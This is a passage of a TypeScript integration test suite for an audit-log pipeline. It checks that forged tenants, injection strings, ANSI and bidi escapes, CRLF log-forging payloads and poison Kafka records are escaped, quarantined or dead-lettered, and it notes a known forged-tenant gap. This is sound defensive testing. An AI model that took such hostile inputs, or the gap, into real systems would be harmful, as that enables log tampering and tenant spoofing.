        h._source as { audit?: { ingest?: { via?: string; client_id?: string }; producer?: { id?: string } } }
      ).audit;
      const ingest = audit?.ingest;
      const want =
        door === 'sdk'
          ? { via: 'sdk', client_id: audit?.producer?.id }
          : door === 'gateway (bearer)'
            ? { via: 'gateway', client_id: 'bearer' }
            : door === 'gateway (hmac)'
              ? { via: 'gateway', client_id: 'hooks' }
              : undefined;
      return want && (ingest?.via !== want.via || ingest?.client_id !== want.client_id)
        ? [`${h._id} (${door}): ${JSON.stringify(ingest)}`]
        : [];
    });
    expect(wrongOrigin).toEqual([]);
    const forged = rawIds['raw: forged pipeline tenant, audit.* action, gateway origin']?.id as string;
    const forgedDocs = await es.count({ index: 'audit-events*', query: { ids: { values: [forged] } } });
    note(
      'forged pipeline tenant, audit.* action and gateway origin',
      'raw kafka',
      `indexed copies: ${forgedDocs.count}`,
    );
    // known gap: issue 14 item 3 — nothing after the producers re-checks the reserved tenant, the
    // audit.* actions or the ingest stamp, so a client with write access to audit.raw.v1 can
    // still claim them (the pipeline's own events travel the same topic). Kafka ACLs on the raw
    // topic are the boundary today; the correct outcome would be a DLQ record (reserved_tenant).
    for (const kind of ['gateway: forged ingest', 'sdk: forged ingest']) {
      const hit = hits.find((h) => h._id === rawIds[kind]?.id);
      note(
        kind,
        kind.split(':')[0] as string,
        `indexed with ingest ${JSON.stringify((hit?._source as { audit?: { ingest?: unknown } })?.audit?.ingest)}`,
      );
    }
  }, 240_000);

  it('keeps injection strings, ANSI escapes and bidi overrides as inert text, byte for byte', async () => {
    const hits = await indexedOfT();
    const byId = new Map(hits.map((h) => [h._id as string, JSON.stringify(h._source)]));
    for (const kind of ['gateway: injection/ANSI/bidi', 'ANSI and bidi in fields (raw)']) {
      const text = byId.get(rawIds[kind]?.id as string) ?? '';
      for (const value of [...Object.values(INJECTION), ...Object.values(TERMINAL)])
        expect(text, `${kind}: ${JSON.stringify(value)}`).toContain(JSON.stringify(value).slice(1, -1));
      note(
        kind,
        kind.startsWith('gateway') ? 'gateway' : 'raw kafka',
        'accepted; every injection/ANSI/bidi string indexed byte for byte',
      );
    }
  }, 240_000);

  it('files out-of-window and forged times under the receipt day, creating no index for them', async () => {
    const today = (ms: number) => new Date(ms).toISOString().slice(0, 10).replaceAll('-', '.');
    const receiptDays = new Set([today(started), today(Date.now())]);
    for (const kind of [
      'occurred_at: year 2999',
      'occurred_at: 1970',
      'ingest.received_at: forged 400 days ahead',
    ]) {
      const id = rawIds[kind]?.id as string;
      const found = await es.search({ index: 'audit-events*', query: { ids: { values: [id] } } });
      expect(found.hits.hits.length, kind).toBe(1);
      const index = found.hits.hits[0]?._index as string;
      expect(
        [...receiptDays].some((d) => index.endsWith(d)),
        `${kind} is in ${index}`,
      ).toBe(true);
      const copies = (await archivedNow()).filter((a) => a.event.id === id);
      expect(copies.length, `${kind}: archived copies`).toBe(1);
      const date = /date=(\d{4}-\d{2}-\d{2})/.exec(copies[0]?.key ?? '')?.[1] ?? '';
      expect(
        [...receiptDays].map((d) => d.replaceAll('.', '-')),
        `${kind}: ${copies[0]?.key}`,
      ).toContain(date);
      note(kind, 'raw kafka', `accepted; index ${index}, archive date=${date} (receipt time)`);
    }
    const indices = await es.cat.indices({ index: 'audit-events-*', format: 'json', h: 'index' });
    const names = (indices as { index?: string }[]).map((i) => i.index ?? '');
    expect(names.filter((n) => /-(2999|1970|2027)\./.test(n))).toEqual([]);
  }, 120_000);

  it('replaces a lone surrogate from raw Kafka by U+FFFD, never storing it', async () => {
    const id = rawIds['lone surrogate in Avro string']?.id as string;
    const found = await es.search<{ audit?: { target?: { name?: string } } }>({
      index: 'audit-events*',
      query: { ids: { values: [id] } },
    });
    const name =
      found.hits.hits[0]?._source?.audit?.target?.name ?? JSON.stringify(found.hits.hits[0]?._source);
    expect(name).toContain('\uFFFD');
    // Well-formed: a lone surrogate would not survive a UTF-8 round trip unchanged.
    expect(Buffer.from(name, 'utf8').toString('utf8')).toBe(name);
    note('lone surrogate in an Avro string', 'raw kafka', `accepted; stored as ${JSON.stringify(name)}`);
  }, 120_000);

  let archived: ArchivedEvent[] = [];
  const archivedNow = async () => {
    const store = testArchiveStore(archivePrefix);
    archived = await pollUntil(
      () => archivedEvents(store),
      (all) => all.filter((a) => a.event.tenant_id === T).length >= expected.size,
      180_000,
      2000,
    );
    return archived;
  };

  it('archives every event of the good tenant exactly once', async () => {
    exactlyOnce(
      'archive',
      (await archivedNow()).filter((a) => a.event.tenant_id === T).map((a) => a.event.id),
    );
  }, 240_000);

  it('streams every event of the good tenant exactly once to a subscriber opened before sending', async () => {
    const ofT = () => subscriber.events.filter((e) => e.event.tenant_id === T);
    await subscriber.until(() => ofT().length >= expected.size, 180_000, 'every event of the good tenant');
    exactlyOnce(
      'stream',
      ofT().map((e) => e.event.id),
    );
  }, 240_000);

  it('indexes and archives hostile tenants under escaped or hashed keys, never raw', async () => {
    if (archived.length === 0) await archivedNow();
    const hostile = Object.entries(rawIds).filter(
      ([kind]) => kind.startsWith('tenant:') || kind === 'clean: 128 CJK tenant',
    );
    const store = testArchiveStore(archivePrefix);
    const all = await pollUntil(
      () => archivedEvents(store),
      (events) => hostile.every(([, r]) => events.some((a) => a.event.id === r.id)),
      120_000,
      2000,
    );
    for (const [kind, { id, tenant }] of hostile) {
      const copies = all.filter((a) => a.event.id === id);
      expect(copies.length, `${kind}: archived copies`).toBe(1);
      const key = copies[0]?.key as string;
      expect(copies[0]?.event.tenant_id, kind).toBe(tenant);
      const segment = key.split('/')[0] as string;
      expect(segment, `${kind}: ${key}`).toMatch(/^tenant=(~[0-9a-f]{64}|[A-Za-z0-9._%-]+)$/);
      expect(Buffer.byteLength(archivePrefix + key), kind).toBeLessThan(1024);
      if (tenant === CJK_TENANT) expect(segment, kind).toMatch(/^tenant=~[0-9a-f]{64}$/);
      expect(parseObjectKey(key), kind).toBeDefined();
      const indexed = await es.count({ index: 'audit-events*', query: { ids: { values: [id] } } });
      expect(indexed.count, `${kind}: indexed copies`).toBe(1);
      note(
        kind,
        kind.startsWith('clean') ? 'clean topic' : 'raw kafka',
        `indexed once; archived once under ${segment.slice(0, 90)} (${Buffer.byteLength(archivePrefix + key)}-byte key)`,
      );
    }
  }, 240_000);

  it('quarantines undecodable raw records with their reason, never the DLQ', async () => {
    const wanted = {
      wrongMagic: 'wrong_magic_byte',
      unknownSchema: 'unknown_schema_id',
      corrupt: 'corrupt_avro',
    };
    const found = await pollUntil(
      () =>
        setAsideSince(
          kafka,
          [TOPICS.quarantine, TOPICS.dlq],
          started,
          Object.keys(wanted).map((k) => markers[k] as string),
        ),
      (records) =>
        Object.keys(wanted).every((k) => records.some((s) => s.value.includes(markers[k] as string))),
      120_000,
      3000,
    );
    const observed = Object.fromEntries(
      Object.keys(wanted).map((k) => {
        const r = found.filter((s) => s.value.includes(markers[k] as string));
        return [k, r.map((s) => `${s.topic}:${s.stage}:${s.reason}`)];
      }),
    );
    for (const [k, v] of Object.entries(observed)) note(`raw record: ${k}`, 'raw kafka', v.join(', '));
    expect(observed).toEqual({
      wrongMagic: [`${TOPICS.quarantine}:sanitizer:wrong_magic_byte`],
      unknownSchema: [`${TOPICS.quarantine}:sanitizer:unknown_schema_id`],
      corrupt: [`${TOPICS.quarantine}:sanitizer:corrupt_avro`],
    });
  }, 180_000);

  /** Set-aside records of the run whose bytes hold `marker`, polled until `done`. */
  const setAside = (marker: string[], done: (s: SetAside[]) => boolean) =>
    pollUntil(
      () => setAsideSince(kafka, [TOPICS.dlq, TOPICS.quarantine], started, marker),
      done,
      120_000,
      3000,
    );

  /** `topic stage:reason` of the set-aside records holding each marker, and whether each names its error. */
  const setAsideBy = (records: readonly SetAside[], marks: readonly string[]) =>
    marks.map((m) => {
      const mine = records.filter((r) => r.value.includes(m));
      return {
        seen: [...new Set(mine.map((r) => `${r.topic} ${r.stage}:${r.reason}`))].sort(),
        unexplained: mine.filter((r) => r.reason === '' || r.error === '').length,
      };
    });

  it('sets aside raw records with values no stage can hold, with the stage, reason and error', async () => {
    // Where each fails first: the sanitizer parses details (fail closed: quarantine), the
    // enricher's fingerprint needs a date, Elasticsearch takes ids of at most 512 bytes.
    const wanted: [string, RegExp][] = [
      ['details: not JSON (raw)', /^audit\.quarantine\.v1 sanitizer:transform_failed$/],
      ['occurred_at: past year 275760 (raw)', /^audit\.dlq\.v1 enricher:transform_failed$/],
      ['id: 1237 characters (raw)', /^audit\.dlq\.v1 indexer:elasticsearch_[a-z_]+$/],
    ];
    const ids = wanted.map(([k]) => rawIds[k]?.id as string);
    const records = await setAside(ids, (s) => ids.every((id) => s.some((r) => r.value.includes(id))));
    const by = setAsideBy(records, ids);
    wanted.forEach(([kind, rule], i) => {
      const { seen, unexplained } = by[i] as { seen: string[]; unexplained: number };
      note(kind, 'raw kafka', seen.join(', '));
      expect(seen.length > 0 && seen.every((x) => rule.test(x)), `${kind}: ${JSON.stringify(seen)}`).toBe(
        true,
      );
      expect(unexplained, kind).toBe(0);
    });
  }, 180_000);

  it('dead-letters poison written straight onto the clean topic in the indexer, archiver and streamer', async () => {
    const wanted: [string, string, string[]][] = [
      [
        'clean: occurred_at past any date',
        rawIds['clean: occurred_at past any date']?.id as string,
        ['archiver:invalid_value', 'indexer:invalid_value', 'streamer:json_form_failed'],
      ],
      [
        'clean: details not JSON',
        rawIds['clean: details not JSON']?.id as string,
        ['archiver:invalid_value', 'indexer:invalid_value', 'streamer:json_form_failed'],
      ],
      [
        'clean: wrong magic byte',
        markers.cleanMagic as string,
        ['archiver:wrong_magic_byte', 'indexer:wrong_magic_byte', 'streamer:wrong_magic_byte'],
      ],
    ];
    const marks = wanted.map(([, m]) => m);
    const want = (i: number) => (wanted[i]?.[2] ?? []).map((x) => `${TOPICS.dlq} ${x}`);
    const records = await setAside(marks, (s) => {
      const by = setAsideBy(s, marks);
      return by.every((b, i) => want(i).every((w) => b.seen.includes(w)));
    });
    const by = setAsideBy(records, marks);
    wanted.forEach(([kind], i) => {
      note(kind, 'clean topic', by[i]?.seen.join(', ') ?? '');
      // Other streamers on the same topic (another run, `auditflow up`) may add their own records.
      expect(by[i]?.seen, kind).toEqual(expect.arrayContaining(want(i)));
      expect(by[i]?.unexplained, kind).toBe(0);
    });
    // And the good record written after them arrived.
    const after = rawIds['clean: good after the poison']?.id as string;
    const indexed = await es.count({ index: 'audit-events*', query: { ids: { values: [after] } } });
    expect(indexed.count).toBe(1);
    const store = testArchiveStore(archivePrefix);
    const copies = await pollUntil(
      async () => (await archivedEvents(store)).filter((a) => a.event.id === after).length,
      (n) => n > 0,
      120_000,
      2000,
    );
    expect(copies).toBe(1);
  }, 180_000);

  it('dead-letters a cross-tenant id collision as id_conflict and keeps the first owner', async () => {
    expect(collision.status).toBe(202);
    const records = await setAside([collision.id], (s) => s.some((r) => r.reason === 'id_conflict'));
    const conflict = records.filter((r) => r.reason === 'id_conflict' && r.value.includes(TENANT_B));
    expect(conflict.map((r) => r.stage)).toContain('indexer');
    const doc = await es.search<{ organization?: { id?: string } }>({
      index: 'audit-events*',
      query: { ids: { values: [collision.id] } },
    });
    expect(doc.hits.hits.map((h) => h._source?.organization?.id)).toEqual([T]);
    note(
      'same event id from a second tenant',
      'gateway',
      `${collision.status}; ${conflict.map((r) => `${r.stage}:${r.reason}`).join(', ')}; the first owner's document kept`,
    );
  }, 180_000);

  it('keeps exactly one copy of a redelivered record in the index and the archive', async () => {
    const id = rawIds.redelivery?.id as string;
    const indexed = await pollUntil(
      () => es.count({ index: 'audit-events*', query: { ids: { values: [id] } } }).then((r) => r.count),
      (n) => n >= 1,
      120_000,
    );
    const store = testArchiveStore(archivePrefix);
    const archivedCopies = await pollUntil(
      async () => (await archivedEvents(store)).filter((a) => a.event.id === id).length,
      (n) => n >= 1,
      120_000,
      2000,
    );
    await subscriber.until(
      () => subscriber.events.some((e) => e.event.id === id),
      60_000,
      'the redelivered event',
    );
    const streamed = subscriber.events.filter((e) => e.event.id === id).length;
    note(
      'same record twice (redelivery)',
      'raw kafka',
      `index ${indexed}, archive ${archivedCopies}, stream ${streamed} copies`,
    );
    expect(indexed).toBe(1);
    // The archiver keeps the first copy of an event its roll holds twice (adjacent copies).
    expect(archivedCopies).toBe(1);
    // The sanitizer drops the second copy (same tenant, producer id, sequence and id), so the
    // clean topic, and with it the stream, holds it once (SPEC R1).
    expect(streamed).toBe(1);
  }, 240_000);

  it('keeps exactly one copy of the replayed HMAC request', async () => {
    const query = {
      bool: {
        filter: [
          { term: { 'organization.id': T } },
          { term: { 'audit.correlation_id': replayed.correlation } },
        ],
      },
    };
    await es.indices.refresh({ index: 'audit-events*' }).catch(() => {});
    const copies = await pollUntil(
      () => es.count({ index: 'audit-events*', query }).then((r) => r.count),
      (n) => n >= 1,
      120_000,
    );
    expect(copies).toBe(1);
  }, 180_000);

  it('renders ANSI escapes and bidi overrides escaped in auditflow search', async () => {
    const result = await runCli(
      ['search', '--tenant', T, '--actor', 'u-inert', '--from', '2h', '--format', 'ndjson', '--size', '20'],
      { ...env, AUDITFLOW_QUERY_URL: `http://127.0.0.1:${portOf('query-api')}` },
    );
    expect(result.code, result.stderr).toBe(0);
    const lines = result.stdout.split('\n').filter(Boolean);
    // The two inert events (gateway and SDK) carry both ANSI escapes and bidi overrides.
    expect(lines.length).toBe(2);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: what must not reach a terminal
    expect(result.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(result.stdout).toContain('\\u001b[2J');
    expect(result.stdout.toLowerCase()).toContain('\\u202e');
    note(
      'ANSI escapes and bidi overrides in search output',
      'cli',
      'shown escaped (\\u001b, \\u202e), no raw control or bidi character',
    );
  }, 120_000);

  it('keeps every stage running and ready', async () => {
    const down = [];
    for (const s of services) if (!s.running || !(await s.isReady())) down.push(`${s.name}:\n${s.tail(20)}`);
    expect(down).toEqual([]);
    note(
      'every stage after the run',
      'all',
      `${services.filter((s) => s.running).length} of ${services.length} running and ready, ${services.reduce((n, s) => n + s.starts, 0)} starts`,
    );
  }, 60_000);

  const reconcileOnce = async (tenant: string) => {
    const result = await runCli(
      [
        'reconcile',
        '--from',
        new Date(started).toISOString(),
        '--to',
        new Date(Date.now() + 60_000).toISOString(),
        '--tenant',
        tenant,
        '--json',
      ],
      env,
    );
    const last = result.stdout.trim().split('\n').at(-1) ?? '{}';
    return {
      result,
      report: JSON.parse(last) as { gaps: unknown[]; inFlight: unknown[]; counts: Record<string, number> },
    };
  };

  it('reconcile finds no gap for the good tenant', async () => {
    const { result, report } = await pollUntil(
      () => reconcileOnce(T),
      ({ report }) => report.gaps?.length === 0 && report.inFlight?.length === 0,
      180_000,
      5000,
    );
    note(
      'reconcile --tenant <good tenant>',
      'cli',
      `exit ${result.code}; gaps ${report.gaps?.length}; in flight ${report.inFlight?.length}; counts ${JSON.stringify(report.counts)}`,
    );
    expect(report.gaps, result.stderr).toEqual([]);
    expect(report.counts).toMatchObject({
      clean: expected.size,
      indexed: expected.size,
      archived: expected.size,
    });
    expect(result.code).toBe(0);
  }, 300_000);

  it('reconcile accounts for hostile tenant ids too (matched by their escaped or hashed key segment)', async () => {
    for (const [kind, tenant] of [
      ['tenant:cjk', HOSTILE_TENANTS.cjk],
      ['tenant:slash', HOSTILE_TENANTS.slash],
    ] as const) {
      const { result, report } = await pollUntil(
        () => reconcileOnce(tenant),
        ({ report }) => report.gaps?.length === 0 && report.inFlight?.length === 0,
        120_000,
        5000,
      );
      note(
        `reconcile --tenant <${kind}>`,
        'cli',
        `exit ${result.code}; gaps ${report.gaps?.length}; counts ${JSON.stringify(report.counts)}`,
      );
      expect(report.gaps, `${kind}: ${result.stderr}`).toEqual([]);
      expect(report.counts, kind).toMatchObject({ clean: 1, indexed: 1 });
      expect(report.counts.archived, kind).toBeGreaterThanOrEqual(1);
      expect(result.code, kind).toBe(0);
    }
    // The tenant whose event lost the id to T's: an id_conflict in the DLQ, not a gap.
    const { result, report } = await reconcileOnce(TENANT_B);
    note(
      'reconcile --tenant <tenant B of the id collision>',
      'cli',
      `exit ${result.code}; gaps ${report.gaps?.length}; counts ${JSON.stringify(report.counts)}`,
    );
    expect(report.gaps, result.stderr).toEqual([]);
  }, 300_000);

  it('stops every stage on SIGTERM within its drain timeout with exit 0', async () => {
    subscriber.close();
    const stops = await Promise.all(
      services.map(async (s) => {
        const t0 = Date.now();
        const exit = await s.stop(60_000);
        return { name: s.name, code: exit?.code, signal: exit?.signal, ms: Date.now() - t0 };
      }),
    );
    for (const stop of stops)
      note('SIGTERM after the run', stop.name, `exit ${stop.code ?? stop.signal} after ${stop.ms} ms`);
    expect(stops.filter((stop) => stop.code !== 0)).toEqual([]);
    // The longest drain timeout is the streamer's 30 s.
    expect(Math.max(...stops.map((stop) => stop.ms))).toBeLessThan(40_000);
    // Stopped, the logs are complete: no credential in them, and no line forged by the CRLF payload.
    const secrets = [bearerToken, hmacSecret, streamToken, queryToken, ARCHIVE_SIGNING_KEY_ENV];
    for (const s of services) {
      const text = readFileSync(s.log, 'utf8');
      expect(
        secrets.filter((secret) => text.includes(secret)),
        s.name,
      ).toEqual([]);
      expect(
        text.split('\n').filter((line) => line.startsWith('{"level":50,"msg":"forged')),
        s.name,
      ).toEqual([]);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: a raw ESC would drive whoever tails the log
      expect(/\u001b/.test(text), `${s.name}: raw ESC in the log`).toBe(false);
    }
  }, 90_000);
});
